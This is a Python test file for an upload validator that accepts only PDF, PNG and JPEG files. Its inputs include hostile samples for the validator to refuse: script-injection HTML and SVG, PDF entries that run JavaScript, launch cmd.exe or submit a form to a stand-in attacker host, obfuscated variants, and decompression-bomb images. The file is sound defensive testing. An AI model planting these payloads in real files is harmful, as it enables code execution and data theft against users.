"""What a file is, and which one is not taken."""

from __future__ import annotations

import io
import random
import shutil
import subprocess
import tracemalloc
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.file_reasons import FileRefused, MediaType, Reason
from core.file_refusals import SENTENCES, as_refusal
from core.file_types import media_type
from core.paper_example import EXAMPLE_FACTS
from core.pdf import render_pdf
from tests.core.file_samples import PAGE, chunk, frame, jpeg, object_stream, pdf, png, segment, stream


def reason_of(content: bytes) -> Reason | None:
    try:
        media_type(content)
    except FileRefused as refused:
        return refused.reason
    return None


def test_the_three_kinds_are_known_by_their_content() -> None:
    assert media_type(pdf()) is MediaType.PDF
    assert media_type(png()) is MediaType.PNG
    assert media_type(jpeg()) is MediaType.JPEG


def test_papers_of_our_own_are_taken_back() -> None:
    assert media_type(render_pdf("core/example", EXAMPLE_FACTS, specimen=True)) is MediaType.PDF


@pytest.mark.skipif(shutil.which("pdftoppm") is None, reason="pdftoppm (poppler) is not installed")
@pytest.mark.parametrize(
    ("options", "kind"),
    [
        (["-png"], MediaType.PNG),
        (["-png", "-gray"], MediaType.PNG),
        (["-png", "-mono"], MediaType.PNG),
        (["-jpeg"], MediaType.JPEG),
        (["-jpeg", "-gray"], MediaType.JPEG),
        (["-jpeg", "-jpegopt", "progressive=y"], MediaType.JPEG),
    ],
)
def test_pictures_as_other_programs_make_them_are_taken(options: list[str], kind: MediaType) -> None:
    paper = render_pdf("core/example", EXAMPLE_FACTS, specimen=True)
    made = subprocess.run(
        ["pdftoppm", *options, "-singlefile", "-"], input=paper, capture_output=True, check=True
    )
    assert media_type(made.stdout) is kind


def zipped(name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, "content")
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", Reason.EMPTY),
        (b"<!DOCTYPE html><script>alert(1)</script>", Reason.NOT_ALLOWED),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", Reason.NOT_ALLOWED),
        (b"MZ\x90\x00" + bytes(100), Reason.NOT_ALLOWED),
        (b"GIF89a" + bytes(50), Reason.NOT_ALLOWED),
        ("Диплом".encode(), Reason.NOT_ALLOWED),
        (zipped("[Content_Types].xml"), Reason.OFFICE_DOCUMENT),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), Reason.OFFICE_DOCUMENT),
        (b"{\\rtf1 }", Reason.OFFICE_DOCUMENT),
        (zipped("diploma.pdf"), Reason.ARCHIVE),
        (b"Rar!\x1a\x07\x01\x00", Reason.ARCHIVE),
        (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", Reason.TELEPHONE_PHOTO),
    ],
)
def test_other_kinds_are_refused_each_with_its_own_reason(content: bytes, reason: Reason) -> None:
    assert reason_of(content) is reason


def test_a_page_that_is_also_a_pdf_is_refused() -> None:
    page = b"<script>alert(1)</script>"
    assert reason_of(page + pdf()) is Reason.NOT_ALLOWED
    assert reason_of(b"\n" + pdf()) is Reason.NOT_ALLOWED
    assert reason_of(pdf() + page) is Reason.DAMAGED


@pytest.mark.parametrize(
    "content",
    [
        b"%PDF-",
        b"%PDF-1.7\nDear sir, I am a PDF.\n",
        b"%PDF-9.9\n" + pdf()[9:],
        pdf()[:-30],
        pdf()[:200],
        pdf().replace(b"startxref\n", b"startxref\n1"),
        pdf().replace(b"startxref\n", b"startxref\n9999999"),
        pdf().replace(b"/Root 1 0 R", b""),
        pdf(page=b"<< /Type /Nothing >>"),
        pdf() + b"PK\x03\x04 and an archive behind it",
    ],
)
def test_a_pdf_that_is_none_is_refused(content: bytes) -> None:
    assert reason_of(content) is Reason.DAMAGED


def test_blanks_after_the_end_do_no_harm() -> None:
    assert media_type(pdf() + b"\r\n\x00\x00 ") is MediaType.PDF


@pytest.mark.parametrize("trailer", [b"/Encrypt 9 0 R", b"/Encrypt\n<< /V 4 >>", b"/#45ncrypt 9 0 R"])
def test_an_encrypted_pdf_is_refused(trailer: bytes) -> None:
    assert reason_of(pdf(trailer=trailer)) is Reason.ENCRYPTED


ACTIVE = [
    b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
    b"/OpenAction << /S /#4aava#53cript /JS (app.alert(1)) >>",
    b"/OpenAction << /S/JavaScript/JS(app.alert(1))>>",
    b"/AA << /WC << /S /Launch /F (cmd.exe) >> >>",
    b"/OpenAction << /S /GoToE /T << /R /C >> >>",
    b"/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share) >>",
    b"/OpenAction << /S /SubmitForm /F (http://attacker.example) >>",
    b"/OpenAction << /S /ImportData /F (x) >>",
    b"/OpenAction << /S /Rendition /OP 0 >>",
    b"/AcroForm << /XFA [ (template) 9 0 R ] >>",
    b"/AcroForm << /XFA 9 0 R >>",
]


@pytest.mark.parametrize("entry", ACTIVE)
def test_a_pdf_that_acts_when_opened_is_refused(entry: bytes) -> None:
    assert reason_of(pdf(catalog=entry)) is Reason.ACTIVE


@pytest.mark.parametrize("entry", ACTIVE)
def test_it_is_refused_also_when_it_acts_from_inside_a_compressed_stream(entry: bytes) -> None:
    assert reason_of(pdf(extra=[object_stream(b"<< " + entry + b" >>")])) is Reason.ACTIVE


@pytest.mark.parametrize(
    "packed",
    [
        object_stream(b"x", b"/Filter /LZWDecode"),
        object_stream(b"x", b"/Filter [/ASCIIHexDecode /LZWDecode]"),
        object_stream(b"x", b"/Filter /FlateDecode /DecodeParms << /Predictor 12 >>"),
        object_stream(b"x", b"/Filter /FlateDecode (stream\n)"),
        object_stream(b"x", b"/Filter /FlateDecode % stream\n"),
        object_stream(b"x" * 500)[:60],
        object_stream(bytes(17 * 1024 * 1024)),
        b"/Type /ObjStm",
        b"<< /Type /ObjStm " + b" " * 5000 + b">>\nstream\n",
    ],
)
def test_a_pdf_that_hides_its_objects_from_a_check_is_refused(packed: bytes) -> None:
    assert reason_of(pdf(extra=[packed])) is Reason.UNREADABLE


def test_usual_pdfs_pass() -> None:
    harmless = [
        object_stream(PAGE),
        object_stream(b"<< /Nothing 1 >>", b""),
        stream(random.Random(3).randbytes(200_000), b"/Subtype /Image"),
        b"<< /Type /Filespec /F (card.xml) /EF << /F 5 0 R >> >>",
        stream(b"<card/>", b"/Type /EmbeddedFile /Filter /FlateDecode"),
        b"<< /S /URI /URI (https://egov.kz) >>",
        b"(A text that says JavaScript, Launch and XFA)",
    ]
    assert media_type(pdf(extra=harmless, catalog=b"/OpenAction [3 0 R /Fit]")) is MediaType.PDF
    assert media_type(pdf(extra=[object_stream(PAGE)], page=b"null")) is MediaType.PDF


@pytest.mark.parametrize(
    "content",
    [
        png()[:-1],
        png()[:40],
        png() + b"<script>",
        png(height=0, pixels=b"\x00"),
        png(pixels=bytes(10)),
        png(pixels=bytes(100_000)),
        png(depth=3),
        png(colour=5),
        png(interlace=2),
        png(before=chunk(b"IHDR", bytes(13))),
        png(before=chunk(b"IDAT") + chunk(b"tEXt", b"a\x00b")),
        png(before=chunk(b"12\x00\x00")),
        png().replace(b"IDAT", b"IDAX", 1),
        b"\x89PNG\r\n\x1a\n" + chunk(b"IEND"),
        png(after=chunk(b"zzZz") * 20_001),
    ],
)
def test_a_damaged_png_is_refused(content: bytes) -> None:
    assert reason_of(content) is Reason.DAMAGED


def test_a_png_with_one_bit_turned_is_refused() -> None:
    whole = png()
    for place in range(len(whole)):
        turned = whole[:place] + bytes([whole[place] ^ 1]) + whole[place + 1 :]
        assert reason_of(turned) is not None, place


def test_interlaced_and_palette_pictures_are_counted_right() -> None:
    # 5 by 3 pixels in the passes that hold any, width and height; three bytes a pixel and a filter a row.
    passes = [(1, 1), (1, 1), (1, 1), (3, 1), (2, 2), (5, 1)]
    size = sum(high * (1 + wide * 3) for wide, high in passes)
    assert reason_of(png(interlace=1, pixels=bytes(size))) is None
    assert reason_of(png(interlace=1, pixels=bytes(size - 1))) is Reason.DAMAGED
    assert (
        reason_of(png(9, 2, depth=1, colour=3, pixels=bytes(2 * 3), before=chunk(b"PLTE", bytes(6)))) is None
    )


def test_a_picture_that_would_fill_a_machine_is_refused_before_it_is_unpacked() -> None:
    tracemalloc.start()
    assert reason_of(png(29_000, 29_000, pixels=b"")) is Reason.TOO_MANY_PIXELS
    assert reason_of(png(31_000, 1, pixels=b"")) is Reason.TOO_MANY_PIXELS
    assert reason_of(png(8_900, 8_900, depth=16, colour=6, pixels=b"")) is Reason.TOO_MANY_PIXELS
    assert reason_of(jpeg(frame_content=frame(60_000, 60_000))) is Reason.TOO_MANY_PIXELS
    assert reason_of(png(8_000, 4_000, pixels=b"")) is Reason.DAMAGED
    assert tracemalloc.get_traced_memory()[1] < 2_000_000
    tracemalloc.stop()


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xd8\xff",
        b"\xff\xd8\xff\xd9",
        b"\xff\xd8\xff" + b"\xff" * 5_000_000,
        b"\xff\xd8" + segment(0xE0, b"JFIF") + b"<script>alert(1)</script>",
        jpeg(end=b""),
        jpeg(end=b"\xff" * 3_000_000),
        jpeg(scans=0),
        jpeg(scans=101),
        jpeg(frame_marker=0xC3),
        jpeg(frame_marker=0xE1),
        jpeg(frame_content=frame(0, 5)),
        jpeg(frame_content=frame(5, 0)),
        jpeg(frame_content=frame(depth=12)),
        jpeg(frame_content=frame(components=2)),
        jpeg(frame_content=b"\x08"),
        jpeg()[:60],
        b"\xff\xd8" + segment(0xFE) * 6_000 + jpeg()[2:],
        b"\xff\xd8" + segment(0xC0, frame()) + jpeg()[2:],
    ],
)
def test_a_damaged_jpeg_is_refused(content: bytes) -> None:
    assert reason_of(content) is Reason.DAMAGED


def test_what_telephones_write_behind_a_picture_does_no_harm() -> None:
    assert media_type(jpeg() + b"\x00\x00\x00\x18ftypmp42" + bytes(1000)) is MediaType.JPEG
    assert media_type(jpeg(scans=10, frame_marker=0xC2)) is MediaType.JPEG


@given(st.sampled_from([pdf(extra=[object_stream(PAGE)]), png(), jpeg()]), st.data())
def test_a_file_cut_or_scrambled_anywhere_gives_an_answer_and_no_fault(
    whole: bytes, data: st.DataObject
) -> None:
    place = data.draw(st.integers(0, len(whole)))
    noise = data.draw(st.binary(max_size=12))
    reason_of(whole[:place] + noise + whole[place + data.draw(st.integers(0, 12)) :])
    reason_of(whole[:place])


@given(st.sampled_from([b"%PDF-1.7\n", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b""]), st.binary())
def test_noise_is_never_taken(start: bytes, noise: bytes) -> None:
    assert reason_of(start + noise) is not None


def test_every_reason_has_a_sentence_and_says_what_to_do() -> None:
    for reason in Reason:
        refusal = as_refusal(FileRefused(reason, limit=20_971_520))
        assert str(refusal).endswith(".")
        assert str(refusal.next_step).endswith(".")
    assert (
        str(as_refusal(FileRefused(Reason.TOO_LARGE, limit=20_971_520))) == "The file is larger than 20 MB."
    )
    assert as_refusal(FileRefused(Reason.TOO_LARGE, limit=1)).status == 413
    assert set(SENTENCES) | {Reason.TOO_LARGE, Reason.TOO_MANY_PIXELS} == set(Reason)
